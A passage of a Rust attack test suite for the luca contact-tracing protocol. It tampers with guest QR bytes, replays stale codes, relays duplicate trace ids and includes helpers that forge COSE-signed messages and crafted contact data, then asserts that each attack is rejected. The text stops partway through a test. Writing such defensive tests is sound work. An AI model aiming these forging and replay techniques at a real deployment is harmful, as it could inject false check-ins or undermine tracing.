//! The attack suite: every attack of `docs/THREAT-MODEL.md` §3, mounted through
//! the public APIs of the role crates (guest app, scanner, venue, private-meeting
//! host, health office, registrar, trust anchor) and of `luca_protocol::server`,
//! which stands in for the operator server — assumed malicious, or the
//! attacker's channel.
//!
//! Each test asserts the exact error (variant or `kind()`) and that nothing was
//! stored, accepted or decrypted: the scanner emitted no record and a later
//! genuine scan still works, the in-memory server store is unchanged, the health
//! office obtained no contact, the victim's data is not in the output.
//!
//! Every test builds the same small town from a seeded ChaCha20 RNG ([`Town::new`]):
//! a trust anchor, a registrar, two certified health offices sharing today's
//! daily key, a venue with its descriptor, printed QR code and scanner, a
//! private-meeting host and two registered guests. Badges (Argon2id, slow in a
//! debug build) are issued only in the badge test.
//!
//! Run: `cargo test --workspace attack_`.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::arithmetic_side_effects,
    clippy::cast_possible_truncation,
    clippy::too_many_lines,
    missing_docs
)]

use luca_protocol::messages::contact_data::{ContactFieldError, FieldProblem};
use std::collections::BTreeMap;
use std::collections::btree_map::Entry;

use aes_gcm::aead::{Aead as _, KeyInit as _, Payload};
use luca_client::{ClientError, Guest, ScannedVenue, VerifiedMeeting, VerifiedVenue};
use luca_healthoffice::authority::{Registrar, TrustAnchor};
use luca_healthoffice::{
    CertificateRequest, ConsentedCheckIn, Contact, HealthOffice, KeyError, OpenedConsent, TracingError, export,
    match_check_ins,
};
use luca_protocol::derive;
use luca_protocol::error::{DecodeError, OpenError, VerifyError};
use luca_protocol::ids::{BadgeKeyId, DailyKeyId, HealthOfficeId, RegistrarId, RequestId, TraceId, UserId, VenueId};
use luca_protocol::keys::{
    BadgePrivateKey, DailyPrivateKey, EncryptionPublicKey, GuestSigningKey, HealthOfficeMasterKeys, HostSigningKey,
    RegistrarKey, TrustAnchorKey, VenuePrivateKey,
};
use luca_protocol::labels;
use luca_protocol::messages::additional_data::{AdditionalDataContent, AdditionalDataIn};
use luca_protocol::messages::checkin_record::{CheckInRecord, CheckInRecordIn, CheckInSource, InnerRecord};
use luca_protocol::messages::checkout::{Checkout, CheckoutError, CheckoutIn};
use luca_protocol::messages::consent_response::{ConsentResponseBuilder, ConsentResponseIn};
use luca_protocol::messages::contact_data::{ContactData, ContactDataIn, ContactFields};
use luca_protocol::messages::history_share::HistoryShareIn;
use luca_protocol::messages::key_share::{KeyShare, KeyShareIn};
use luca_protocol::messages::notification_list::{NotificationList, NotificationListIn};
use luca_protocol::messages::tracing_request::{TracingRequest, TracingRequestIn, TracingWindow};
use luca_protocol::qr::badge::{BadgeQr, ScannedQr};
use luca_protocol::qr::guest::{DeviceType, GuestCheckInQr, QrFlags};
use luca_protocol::qr::venue::VenueQr;
use luca_protocol::secrets::{BadgeSeed, CheckoutProof, DailyTracingSecret, DataSecret};
use luca_protocol::server::{self, ServerError};
use luca_protocol::signed::badge_attestation::{BadgeAttestation, BadgeAttestationIn};
use luca_protocol::signed::daily_key_announcement::{DailyKeyAnnouncement, DailyKeyAnnouncementIn, KeyPurpose};
use luca_protocol::signed::health_office_certificate::{HealthOfficeCertificate, HealthOfficeCertificateIn};
use luca_protocol::signed::registrar_certificate::{RegistrarCertificate, RegistrarCertificateIn};
use luca_protocol::signed::venue_descriptor::{VenueDescriptor, VenueDescriptorIn, VenueKind};
use luca_protocol::tan::Tan;
use luca_protocol::time::{UnixMinute, UnixTime, Validity};
use luca_venue::{
    ConsentAnswer, DEFAULT_FRESHNESS_SECS, MeetingError, PrivateMeetingHost, ScanError, ScanResult, Scanner,
    StoredCheckIn, Venue, VenueError,
};
use rand_chacha::ChaCha20Rng;
use rand_core::SeedableRng;

// ------------------------------------------------------------------ the town

/// 2026-11-29T09:00:00Z, the first second of a minute.
const NOW: UnixTime = UnixTime(1_795_942_800);
const DAY: u64 = 86_400;
const HOUR: u64 = 3_600;
/// Where printed venue QR codes point.
const HOST: &str = "luca.example";

/// The validity of every certificate of the town: from 30 days ago for a year.
fn certified() -> Validity {
    Validity { not_before: NOW.minus_secs(30 * DAY), not_after: NOW.plus_secs(365 * DAY) }
}

/// The tracing window used throughout: an hour either side of `NOW`.
fn hour() -> TracingWindow {
    TracingWindow { from: NOW.minus_secs(HOUR), to: NOW.plus_secs(HOUR) }
}

fn fields(first: &str, last: &str, phone: &str) -> ContactFields {
    let mut f = ContactFields::default();
    f.first_name = first.into();
    f.last_name = last.into();
    f.phone = phone.into();
    f.email = format!("{}@example.org", first.to_lowercase());
    f.street = "Heidestraße".into();
    f.house_number = "17".into();
    f.postcode = "51147".into();
    f.city = "Köln".into();
    f
}

/// The operator server: validates with `luca_protocol::server` and stores only
/// what passed. `PartialEq` lets a test show that an attack left it unchanged.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
struct Server {
    /// The first check-in record received per trace id, at any venue.
    records: BTreeMap<TraceId, Vec<u8>>,
    additional_data: BTreeMap<TraceId, Vec<u8>>,
    checkouts: BTreeMap<TraceId, Vec<u8>>,
    contact_data: BTreeMap<UserId, Vec<u8>>,
    /// History shares by TAN (grouped form).
    history_shares: BTreeMap<String, Vec<u8>>,
    announcements: Vec<Vec<u8>>,
    consent_responses: Vec<Vec<u8>>,
    notification_lists: Vec<Vec<u8>>,
}

impl Server {
    /// A check-in record: stored unless a record with its trace id is already
    /// stored (the first one is kept). Returns whether it was stored.
    fn check_in(&mut self, bytes: &[u8], now: UnixTime) -> Result<bool, ServerError> {
        let record = server::check_in_record(bytes, now, DEFAULT_FRESHNESS_SECS)?;
        match self.records.entry(record.trace_id()) {
            Entry::Vacant(e) => {
                e.insert(bytes.to_vec());
                Ok(true)
            }
            Entry::Occupied(_) => Ok(false),
        }
    }

    fn record(&self, trace_id: TraceId) -> CheckInRecordIn {
        CheckInRecordIn::from_slice(&self.records[&trace_id]).unwrap()
    }

    fn additional_data(&mut self, bytes: &[u8], trace_id: TraceId) -> Result<(), ServerError> {
        server::additional_data(bytes, &self.record(trace_id))?;
        self.additional_data.insert(trace_id, bytes.to_vec());
        Ok(())
    }

    /// A checkout of the stored check-in named by the checkout's trace id.
    fn checkout(&mut self, bytes: &[u8], now: UnixTime) -> Result<(), ServerError> {
        let trace_id = CheckoutIn::from_slice(bytes)?.trace_id();
        let Some(stored) = self.records.get(&trace_id) else {
            return Err(ServerError::Mismatch { field: "trace_id" });
        };
        let record = CheckInRecordIn::from_slice(stored)?;
        server::checkout(bytes, &record, now)?;
        self.checkouts.insert(trace_id, bytes.to_vec());
        Ok(())
    }

    /// Contact data at registration, or as an update of what is stored under its user id.
    fn contact_data(&mut self, bytes: &[u8]) -> Result<(), ServerError> {
        let user_id = ContactDataIn::from_slice(bytes)?.user_id();
        let previous = self.contact_data.get(&user_id).map(|b| ContactDataIn::from_slice(b).unwrap());
        server::contact_data(bytes, previous.as_ref())?;
        self.contact_data.insert(user_id, bytes.to_vec());
        Ok(())
    }

    /// A history share; returns the TAN the guest reads to the health office.
    fn history_share(
        &mut self,
        rng: &mut ChaCha20Rng,
        bytes: &[u8],
        daily_keys: &[DailyKeyAnnouncement],
        now: UnixTime,
    ) -> Result<Tan, ServerError> {
        server::history_share(bytes, daily_keys, now)?;
        let tan = Tan::generate(rng);
        self.history_shares.insert(tan.to_string(), bytes.to_vec());
        Ok(tan)
    }

    fn history_by_tan(&self, tan: &Tan) -> Option<Vec<u8>> {
        self.history_shares.get(&tan.to_string()).cloned()
    }

    fn announcement(
        &mut self,
        bytes: &[u8],
        issuer: &HealthOfficeCertificate,
        now: UnixTime,
    ) -> Result<DailyKeyAnnouncement, ServerError> {
        let verified = server::daily_key_announcement(bytes, issuer, now)?;
        self.announcements.push(bytes.to_vec());
        Ok(verified)
    }

    fn consent_response(&mut self, bytes: &[u8], request: &TracingRequest) -> Result<(), ServerError> {
        server::consent_response(bytes, request)?;
        self.consent_responses.push(bytes.to_vec());
        Ok(())
    }

    fn notification_list(
        &mut self,
        bytes: &[u8],
        office: &HealthOfficeCertificate,
        now: UnixTime,
    ) -> Result<NotificationList, ServerError> {
        let list = server::notification_list(bytes, office, now)?;
        self.notification_lists.push(bytes.to_vec());
        Ok(list)
    }

    /// The stored check-ins of `venue_id`, as handed to the venue for consent.
    fn check_ins_of(&self, venue_id: VenueId) -> Vec<StoredCheckIn> {
        self.records
            .iter()
            .filter(|(_, r)| CheckInRecordIn::from_slice(r).unwrap().venue_id() == venue_id)
            .map(|(t, r)| StoredCheckIn { record: r.clone(), additional_data: self.additional_data.get(t).cloned() })
            .collect()
    }
}

/// The small town every test starts from.
struct Town {
    rng: ChaCha20Rng,
    anchor: TrustAnchor,
    registrar: Registrar,
    registrar_cert: RegistrarCertificate,
    office_a: HealthOffice,
    cert_a: HealthOfficeCertificate,
    office_b: HealthOffice,
    cert_b: HealthOfficeCertificate,
    /// Today's daily key, rotated by office A, verified as fetched from the server.
    daily: DailyKeyAnnouncement,
    /// Office A's key share of today's daily key for office B.
    daily_share: KeyShare,
    venue: Venue,
    descriptor: VenueDescriptor,
    /// The venue's printed QR code at table 7.
    venue_url: String,
    scanner: Scanner,
    host: PrivateMeetingHost,
    meeting_url: String,
    alice: Guest,
    bob: Guest,
    server: Server,
}

/// A health office certified by `anchor` and installed.
fn certified_office(
    rng: &mut ChaCha20Rng,
    anchor: &TrustAnchor,
    name: &str,
) -> (HealthOffice, HealthOfficeCertificate) {
    let mut office = HealthOffice::generate(rng);
    let cert = anchor.certify_health_office(&office.certificate_request(name).unwrap(), certified()).unwrap();
    let cert = office.install_certificate(cert.as_bytes(), &anchor.public_key(), NOW).unwrap().clone();
    (office, cert)
}

/// Health-office master keys held by the test (to craft what a rogue or
/// careless office could sign), with a request for a certificate.
fn office_keys(rng: &mut ChaCha20Rng, name: &str) -> (HealthOfficeMasterKeys, CertificateRequest) {
    let keys = HealthOfficeMasterKeys::generate(rng);
    let request = CertificateRequest {
        id: HealthOfficeId::random(rng),
        name: name.into(),
        signing_key: keys.signing.public_key(),
        encryption_key: keys.encryption.public_key(),
    };
    (keys, request)
}

fn register(rng: &mut ChaCha20Rng, server: &mut Server, f: &ContactFields) -> Guest {
    let registration = Guest::register(rng, f, DeviceType::Android, NOW).unwrap();
    server.contact_data(registration.contact_data.as_bytes()).unwrap();
    registration.guest
}

impl Town {
    fn new(seed: u64) -> Self {
        let mut rng = ChaCha20Rng::seed_from_u64(seed);
        let anchor = TrustAnchor::generate(&mut rng);
        let mut registrar = Registrar::generate(&mut rng);
        let request = registrar.registration_request("luca Registrar").unwrap();
        let cert = anchor.certify_registrar(&request, certified()).unwrap();
        let registrar_cert = registrar.install_certificate(cert.as_bytes(), &anchor.public_key(), NOW).unwrap().clone();

        let (mut office_a, cert_a) = certified_office(&mut rng, &anchor, "Gesundheitsamt Köln");
        let (mut office_b, cert_b) = certified_office(&mut rng, &anchor, "Gesundheitsamt Bonn");
        let mut rotation = office_a.rotate_daily_key(&mut rng, NOW, std::slice::from_ref(&cert_b)).unwrap();
        let daily_share = rotation.shares.pop().unwrap();
        let imported =
            office_b.import_key_share(daily_share.as_bytes(), rotation.announcement.as_bytes(), &cert_a, NOW).unwrap();
        assert!(!imported.already_held);
        let mut server = Server::default();
        let daily = server.announcement(rotation.announcement.as_bytes(), &cert_a, NOW).unwrap();

        let mut venue = Venue::generate(&mut rng);
        let request = venue.registration_request("Café Luca", Some(12));
        request.validate().unwrap();
        let validity = Validity { not_before: NOW.minus_secs(DAY), not_after: NOW.plus_secs(180 * DAY) };
        let descriptor = registrar
            .register_venue(request.venue_id, &request.name, &request.venue_key, request.table_count, validity)
            .unwrap();
        venue.install_descriptor(descriptor.as_bytes(), &registrar_cert, NOW).unwrap();
        let venue_url = venue.printed_qr(HOST, Some(7)).unwrap().to_url();
        let mut scanner = venue.scanner().with_registrar(registrar_cert.clone());
        scanner.add_daily_key(daily.clone());

        let meeting = Validity { not_before: NOW.minus_secs(HOUR), not_after: NOW.plus_secs(DAY) };
        let host = PrivateMeetingHost::new(&mut rng, "Erikas Geburtstag", meeting).unwrap();
        let meeting_url = host.qr(HOST).unwrap().to_url();

        let alice = register(&mut rng, &mut server, &fields("Erika", "Mustermann", "+49 30 1234567"));
        let bob = register(&mut rng, &mut server, &fields("Max", "Musterfrau", "+49 221 7654321"));
        Self {
            rng,
            anchor,
            registrar,
            registrar_cert,
            office_a,
            cert_a,
            office_b,
            cert_b,
            daily,
            daily_share,
            venue,
            descriptor,
            venue_url,
            scanner,
            host,
            meeting_url,
            alice,
            bob,
            server,
        }
    }

    /// Another scanner of the venue (own memory of seen trace ids), with today's key.
    fn fresh_scanner(&self) -> Scanner {
        let mut scanner = self.venue.scanner().with_registrar(self.registrar_cert.clone());
        scanner.add_daily_key(self.daily.clone());
        scanner
    }

    /// Scans `text` at the venue's scanner at `now` and uploads the record.
    fn scan(&mut self, text: &str, now: UnixTime) -> ScanResult {
        let scan = self.scanner.scan(&mut self.rng, text, now).unwrap();
        assert!(self.server.check_in(scan.record.as_bytes(), now).unwrap());
        scan
    }

    /// Office A's tracing request to the venue, as the server forwards it.
    fn request(&mut self, window: TracingWindow, at: UnixTime) -> TracingRequest {
        let request = self.office_a.request_tracing(&mut self.rng, self.venue.venue_id(), window, at, DAY).unwrap();
        server::tracing_request(request.as_bytes(), &self.cert_a, at).unwrap()
    }

    /// The venue's consent to `request` (made by office A), over the server's records.
    fn answer(&mut self, request: &TracingRequest, at: UnixTime) -> ConsentAnswer {
        let stored = self.server.check_ins_of(self.venue.venue_id());
        self.venue.answer_tracing_request(&mut self.rng, request.as_bytes(), &self.cert_a, &stored, at).unwrap()
    }

    /// Office A traces the venue's hour around `NOW`: request, consent, opening.
    fn trace(&mut self, at: UnixTime) -> (TracingRequest, Vec<u8>, OpenedConsent) {
        let request = self.request(hour(), at);
        let answer = self.answer(&request, at);
        assert_eq!(answer.responses.len(), 1);
        let response = answer.responses[0].to_bytes();
        self.server.consent_response(&response, &request).unwrap();
        let opened = self.office_a.open_consent_response(&response, &request).unwrap();
        (request, response, opened)
    }

    /// Alice tests positive at `at`: she shares her history, office A fetches it
    /// by TAN, matches the server's records itself, traces the venue and opens
    /// the consent response.
    fn trace_alice(&mut self, at: UnixTime) -> OpenedConsent {
        let share = self.alice.share_history(&mut self.rng, &self.daily, at).unwrap();
        let tan =
            self.server.history_share(&mut self.rng, share.as_bytes(), std::slice::from_ref(&self.daily), at).unwrap();
        let history = self.office_a.fetch_history(&tan.to_string(), |t| self.server.history_by_tan(t)).unwrap();
        let matches = match_check_ins(&history, self.server.records.values());
        assert!(!matches.is_empty());
        assert!(matches.iter().all(|m| m.venue_id == self.venue.venue_id()));
        let (_, _, opened) = self.trace(at);
        opened
    }

    /// Office A decrypts the contact data the server holds for a consented check-in.
    fn contact(&self, check_in: &ConsentedCheckIn) -> Result<Contact, TracingError> {
        self.office_a.decrypt_contact(&self.server.contact_data[&check_in.secrets.user_id], check_in)
    }
}

// ------------------------------------------------------------- byte crafting

/// RFC 4648 §6 Base32, uppercase, no padding (what a scanner reads).
fn base32(bytes: &[u8]) -> String {
    luca_protocol::qr::base32::encode(bytes)
}

/// RFC 4648 §5 base64url without padding (the venue QR fragment).
fn base64url(bytes: &[u8]) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(bytes)
}

/// Deterministic CBOR, just enough to craft messages.
mod cbor {
    pub(crate) fn head(major: u8, n: u64) -> Vec<u8> {
        let m = major << 5;
        match n {
            0..=23 => vec![m | n as u8],
            24..=0xff => vec![m | 24, n as u8],
            0x100..=0xffff => [vec![m | 25], (n as u16).to_be_bytes().to_vec()].concat(),
            0x1_0000..=0xffff_ffff => [vec![m | 26], (n as u32).to_be_bytes().to_vec()].concat(),
            _ => [vec![m | 27], n.to_be_bytes().to_vec()].concat(),
        }
    }
    pub(crate) fn uint(n: u64) -> Vec<u8> {
        head(0, n)
    }
    pub(crate) fn bstr(b: &[u8]) -> Vec<u8> {
        [head(2, b.len() as u64), b.to_vec()].concat()
    }
    pub(crate) fn tstr(s: &str) -> Vec<u8> {
        [head(3, s.len() as u64), s.as_bytes().to_vec()].concat()
    }
    pub(crate) fn array(items: &[Vec<u8>]) -> Vec<u8> {
        [head(4, items.len() as u64), items.concat()].concat()
    }
    pub(crate) const NULL: u8 = 0xf6;

    /// The major type, argument and end of the head at `pos`.
    pub(crate) fn read_head(b: &[u8], pos: usize) -> (u8, usize, usize) {
        let (major, info) = (b[pos] >> 5, b[pos] & 0x1f);
        match info {
            0..=23 => (major, usize::from(info), pos + 1),
            24 => (major, usize::from(b[pos + 1]), pos + 2),
            25 => (major, usize::from(u16::from_be_bytes([b[pos + 1], b[pos + 2]])), pos + 3),
            26 => {
                let n = u32::from_be_bytes([b[pos + 1], b[pos + 2], b[pos + 3], b[pos + 4]]);
                (major, usize::try_from(n).unwrap(), pos + 5)
            }
            _ => panic!("head too long for a test message"),
        }
    }
}

/// The parts of a COSE_Sign1 object: protected header bytes, payload, signature.
struct Cose {
    protected: Vec<u8>,
    payload: Vec<u8>,
    /// Offset of the payload inside the object.
    payload_at: usize,
    signature: Vec<u8>,
}

fn parse_cose(b: &[u8]) -> Cose {
    assert_eq!(b[0], 0x84, "an untagged COSE_Sign1 array");
    let (major, len, start) = cbor::read_head(b, 1);
    assert_eq!(major, 2);
    let protected = b[start..start + len].to_vec();
    assert_eq!(b[start + len], 0xa0, "an empty unprotected header");
    let (major, len, payload_at) = cbor::read_head(b, start + len + 1);
    assert_eq!(major, 2);
    let payload = b[payload_at..payload_at + len].to_vec();
    let (major, len, sig_at) = cbor::read_head(b, payload_at + len);
    assert_eq!((major, len), (2, 64));
    Cose { protected, payload, payload_at, signature: b[sig_at..].to_vec() }
}

/// `{1: -7 (ES256), 3: content_type}`, exactly as luca's decoders require.
fn protected_header(content_type: &str) -> Vec<u8> {
    [vec![0xa2, 0x01, 0x26, 0x03], cbor::tstr(content_type)].concat()
}

fn cose(protected: &[u8], payload: &[u8], signature: &[u8]) -> Vec<u8> {
    [vec![0x84], cbor::bstr(protected), vec![0xa0], cbor::bstr(payload), cbor::bstr(signature)].concat()
}

/// ES256 over the COSE `Sig_structure` with the P-256 private scalar `key`.
fn sign_cose(content_type: &str, payload: &[u8], key: &[u8]) -> Vec<u8> {
    use p256::ecdsa::signature::Signer as _;
    let protected = protected_header(content_type);
    let tbs = cbor::array(&[cbor::tstr("Signature1"), cbor::bstr(&protected), cbor::bstr(&[]), cbor::bstr(payload)]);
    let signature: p256::ecdsa::Signature = p256::ecdsa::SigningKey::from_slice(key).unwrap().sign(&tbs);
    cose(&protected, payload, &signature.to_bytes())
}

/// The encoded items of a flat CBOR array of integers, strings and nulls.
fn flat_items(array: &[u8]) -> Vec<Vec<u8>> {
    let (major, n, mut pos) = cbor::read_head(array, 0);
    assert_eq!(major, 4);
    let mut items = Vec::new();
    for _ in 0..n {
        let (major, len, body) = cbor::read_head(array, pos);
        let end = if matches!(major, 2 | 3) { body + len } else { body };
        items.push(array[pos..end].to_vec());
        pos = end;
    }
    assert_eq!(pos, array.len());
    items
}

fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack.windows(needle.len()).position(|w| w == needle)
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    find(haystack, needle).is_some()
}

/// `bytes` with the one occurrence of `from` replaced by `to` (same length).
fn splice(bytes: &[u8], from: &[u8], to: &[u8]) -> Vec<u8> {
    assert_eq!(from.len(), to.len());
    let at = find(bytes, from).expect("the field to replace");
    assert!(find(&bytes[at + 1..], from).is_none(), "the field occurs once");
    let mut out = bytes.to_vec();
    out[at..at + to.len()].copy_from_slice(to);
    out
}

/// A venue QR URL carrying an arbitrary payload.
fn venue_url(payload: &[u8]) -> String {
    format!("https://{HOST}/v1/checkin#{}", base64url(payload))
}

/// The URL of a (possibly forged) descriptor, without a table.
fn descriptor_url(descriptor: &[u8]) -> String {
    venue_url(&cbor::array(&[cbor::uint(1), cbor::bstr(descriptor), vec![cbor::NULL]]))
}

/// What a malicious app bypassing `ContactData::seal` produces: its own
/// plaintext, encrypted and signed exactly as the protocol prescribes.
fn craft_contact_data(
    nonce_byte: u8,
    key: &GuestSigningKey,
    user_id: UserId,
    data_secret: &DataSecret,
    texts: [&str; 8],
    updated_at: UnixTime,
) -> Vec<u8> {
    let plaintext = cbor::array(&[vec![cbor::uint(1)], texts.iter().map(|t| cbor::tstr(t)).collect()].concat());
    let guest_key = key.public_key().to_bytes();
    let nonce = [nonce_byte; 12];
    let aad = [labels::AAD_CONTACT_DATA, user_id.as_bytes(), &guest_key, &updated_at.0.to_be_bytes()].concat();
    let cipher = aes_gcm::Aes128Gcm::new(derive::contact_data_key(data_secret).expose_secret().into());
    let ciphertext = cipher.encrypt((&nonce).into(), Payload { msg: &plaintext, aad: &aad }).unwrap();
    let payload = cbor::array(&[
        cbor::uint(1),
        cbor::bstr(user_id.as_bytes()),
        cbor::bstr(&guest_key),
        cbor::uint(updated_at.0),
        cbor::bstr(&nonce),
        cbor::bstr(&ciphertext),
    ]);
    sign_cose(labels::COSE_CONTACT_DATA, &payload, key.to_bytes().as_slice())
}

// ------------------------------------------------------------ 1. guest QR bytes

/// What the scanner does with a guest QR whose checksum was recomputed after
/// one byte changed: the decoder's or the scanner's rejection, or acceptance
/// (the change is then caught by the HPKE AAD at the health office).
fn expected_scan(pos: usize, b: &[u8; 109], now: UnixTime) -> Option<&'static str> {
    match pos {
        0 => Some("unsupported_version"),
        1 => (b[1] & QrFlags::DEVICE_TYPE_MASK >= 4).then_some("invalid_field"),
        2 | 3 => Some("unknown_daily_key"),
        4..=7 => {
            let start = UnixMinute(u32::from_be_bytes([b[4], b[5], b[6], b[7]])).start();
            if start.plus_secs(DEFAULT_FRESHNESS_SECS) < now {
                Some("stale")
            } else if start > now.plus_secs(DEFAULT_FRESHNESS_SECS) {
                Some("from_future")
            } else {
                None
            }
        }
        // `enc`: a compressed P-256 point, or the decoder rejects it (checked
        // independently of the decoder, with the p256 crate).
        24..=56 => p256::PublicKey::from_sec1_bytes(&b[24..57]).is_err().then_some("invalid_point"),
        _ => None,
    }
}

#[test]
fn attack_tampered_qr_every_byte() {
    let mut t = Town::new(1);
    let code = t.alice.check_in_code(&mut t.rng, &t.daily, NOW).unwrap();
    let bytes = code.qr.to_bytes();
    assert_eq!((bytes.len(), bytes[0], bytes[1]), (109, 0x01, 0x01), "guest QR v1 of an Android app");
    let server_before = t.server.clone();

    // (a) Every bit of every byte, and every byte inverted, checksum as printed.
    for pos in 0..bytes.len() {
        for mask in [0x01u8, 0x02, 0x04, 0x08, 0x10, 0x20, 0x40, 0x80, 0xff] {
            let mut b = bytes;
            b[pos] ^= mask;
            let err = t.scanner.scan(&mut t.rng, &base32(&b), NOW).unwrap_err();
            let want = match (pos, b[0]) {
                // 0x11 is the badge type byte: the badge decoder reads the flags
                // byte 0x01 as a complete CBOR item followed by trailing bytes.
                (0, 0x11) => DecodeError::TrailingBytes,
                (0, got) => DecodeError::UnsupportedVersion { got: u64::from(got) },
                _ => DecodeError::BadChecksum,
            };
            assert_eq!(err, ScanError::Malformed(want.clone()), "byte {pos} ^ {mask:#04x}");
            assert_eq!(err.kind(), want.kind());
        }
    }
    // Nothing was emitted, stored or remembered: the genuine code still checks in.
    assert_eq!(t.server, server_before);
    let genuine = t.scan(&code.text(), NOW);
    assert_eq!(genuine.trace_id, code.trace_id);

    // (b) Each body byte changed and the checksum recomputed (anyone can: it
    // is not a MAC), scanned by a scanner that has not seen the trace id.
    let mut emitted = 0;
    let cases: Vec<(usize, u8)> =
        (0..GuestCheckInQr::BODY_LENGTH).map(|p| (p, 0x01)).chain([(0, 0xff), (1, 0xff), (24, 0xff)]).collect();
    for (pos, mask) in cases {
        let mut b = bytes;
        b[pos] ^= mask;
        let checksum = derive::qr_checksum(&b[..GuestCheckInQr::BODY_LENGTH]);
        b[GuestCheckInQr::BODY_LENGTH..].copy_from_slice(&checksum);
        let mut scanner = t.fresh_scanner();
        let result = scanner.scan(&mut t.rng, &base32(&b), NOW);
        match expected_scan(pos, &b, NOW) {
            Some(kind) => assert_eq!(result.unwrap_err().kind(), kind, "byte {pos} ^ {mask:#04x}"),
            None => {
                // The header is still well-formed: the scanner cannot tell and
                // emits a record, which the server validates and keeps unless
                // it holds one with that trace id already.
                let scan = result.unwrap();
                let stored = t.server.check_in(scan.record.as_bytes(), NOW).unwrap();
                assert_eq!(stored, (8..24).contains(&pos), "byte {pos}: only a new trace id is stored");
                emitted += 1;
            }
        }
        // Whatever the scanner said, a code that decodes never opens at the
        // health offices: no user id or data secret comes out.
        if let Ok(qr) = GuestCheckInQr::from_bytes(&b) {
            let inner = InnerRecord::Guest(qr);
            let want = if (2..4).contains(&pos) {
                TracingError::UnknownDailyKey
            } else {
                TracingError::Open(OpenError::DecryptionFailed)
            };
            assert_eq!(t.office_a.open_inner_record(&inner).unwrap_err(), want, "byte {pos}");
            assert_eq!(t.office_b.open_inner_record(&inner).unwrap_err(), want, "byte {pos}");
        }
    }
    // Flags, minute ± 1, 16 trace-id bytes, the sign of `enc`, 48 ciphertext
    // bytes, and the X bytes of `enc` that still give a point on the curve.
    assert!(emitted >= 1 + 1 + 16 + 1 + 48, "{emitted} tampered codes passed the scanner");

    // The venue consents; office A opens the response: only the genuine
    // check-in decrypts, every tampered record is unreadable.
    let (_, _, opened) = t.trace(NOW.plus_secs(HOUR));
    assert_eq!(opened.check_ins.len(), 1);
    assert_eq!(opened.check_ins[0].secrets.user_id, t.alice.user_id());
    assert_eq!(opened.check_ins[0].trace_id, code.trace_id);
    assert_eq!(opened.unreadable.len(), 16, "one per stored tampered trace id");
    for u in &opened.unreadable {
        assert_eq!(u.error, TracingError::Open(OpenError::DecryptionFailed));
        assert_eq!(u.error.kind(), "decryption_failed");
    }
}

// ------------------------------------------------------ 2. and 3. replay, duplicates

#[test]
fn attack_replay_qr_outside_window() {
    let mut t = Town::new(2);
    let code = t.alice.check_in_code(&mut t.rng, &t.daily, NOW).unwrap();
    let server_before = t.server.clone();

    // A screenshot shown more than the window (120 s) after its minute began,
    // or a code made for a minute more than the window ahead.
    let late = t.scanner.scan(&mut t.rng, &code.text(), NOW.plus_secs(DEFAULT_FRESHNESS_SECS + 1)).unwrap_err();
    assert_eq!(late, ScanError::Stale);
    assert_eq!(late.kind(), "stale");
    let early = t.scanner.scan(&mut t.rng, &code.text(), NOW.minus_secs(DEFAULT_FRESHNESS_SECS + 1)).unwrap_err();
    assert_eq!(early, ScanError::FromFuture);
    assert_eq!(early.kind(), "from_future");
    let old = t.alice.check_in_code(&mut t.rng, &t.daily, NOW.minus_secs(HOUR)).unwrap();
    assert_eq!(t.scanner.scan(&mut t.rng, &old.text(), NOW).unwrap_err(), ScanError::Stale);
    assert_eq!(t.server, server_before, "no record was emitted");

    // A rogue scanner (or the server) seals the old code into a well-formed
    // record now: the server's own freshness check refuses it.
    let inner = InnerRecord::Guest(old.qr.clone());
    let venue_key = t.venue.public_key();
    let record =
        CheckInRecord::seal(&mut t.rng, t.venue.venue_id(), &venue_key, &inner, old.trace_id, old.minute).unwrap();
    assert_eq!(t.server.check_in(record.as_bytes(), NOW).unwrap_err().kind(), "stale");
    // A genuine record delivered (or replayed by the server) after the window.
    let scan = t.scanner.scan(&mut t.rng, &code.text(), NOW.plus_secs(30)).unwrap();
    let err = t.server.check_in(scan.record.as_bytes(), NOW.plus_secs(DEFAULT_FRESHNESS_SECS + 1)).unwrap_err();
    assert_eq!(err, ServerError::Freshness(luca_protocol::messages::checkin_record::FreshnessError::Stale));
    assert_eq!(err.kind(), "stale");
    assert_eq!(
        server::check_in_record(
            scan.record.as_bytes(),
            NOW.minus_secs(DEFAULT_FRESHNESS_SECS + 1),
            DEFAULT_FRESHNESS_SECS
        )
        .unwrap_err()
        .kind(),
        "from_future"
    );
    assert_eq!(t.server, server_before, "nothing was stored");

    // Within the window the same record is accepted (the refusals left no trace).
    assert!(t.server.check_in(scan.record.as_bytes(), NOW.plus_secs(DEFAULT_FRESHNESS_SECS)).unwrap());
    assert_eq!(t.server.records.len(), 1);
}

#[test]
fn attack_duplicate_trace_id_in_window() {
    let mut t = Town::new(3);
    let code = t.alice.check_in_code(&mut t.rng, &t.daily, NOW).unwrap();
    let first = t.scan(&code.text(), NOW.plus_secs(5));
    let stored = t.server.clone();

    // A screenshot of the same code, shown again inside the window at the
    // same scanner: refused, nothing emitted.
    let again = t.scanner.scan(&mut t.rng, &code.text(), NOW.plus_secs(60)).unwrap_err();
    assert_eq!(again, ScanError::DuplicateTraceId);
    assert_eq!(again.kind(), "duplicate_trace_id");
    // Still refused at the end of the window (seen trace ids are kept for two windows).
    let last = t.scanner.scan(&mut t.rng, &code.text(), NOW.plus_secs(DEFAULT_FRESHNESS_SECS)).unwrap_err();
    assert_eq!(last, ScanError::DuplicateTraceId);

    // The same screenshot relayed to a second scanner of the venue, and to a
    // scanner of another venue: each has its own memory and emits a record,
    // but the server keeps the first record per trace id.
    let mut second = t.fresh_scanner();
    let relay_same = second.scan(&mut t.rng, &code.text(), NOW.plus_secs(30)).unwrap();
    let mut other = Venue::generate(&mut t.rng);
    let validity = Validity { not_before: NOW.minus_secs(DAY), not_after: NOW.plus_secs(DAY) };
    let descriptor =
        t.registrar.register_venue(other.venue_id(), "Bar Relais", &other.public_key(), None, validity).unwrap();
    other.install_descriptor(descriptor.as_bytes(), &t.registrar_cert, NOW).unwrap();
    let mut other_scanner = other.scanner();
    other_scanner.add_daily_key(t.daily.clone());
    let relay_other = other_scanner.scan(&mut t.rng, &code.text(), NOW.plus_secs(40)).unwrap();
    assert!(!t.server.check_in(relay_same.record.as_bytes(), NOW.plus_secs(30)).unwrap());
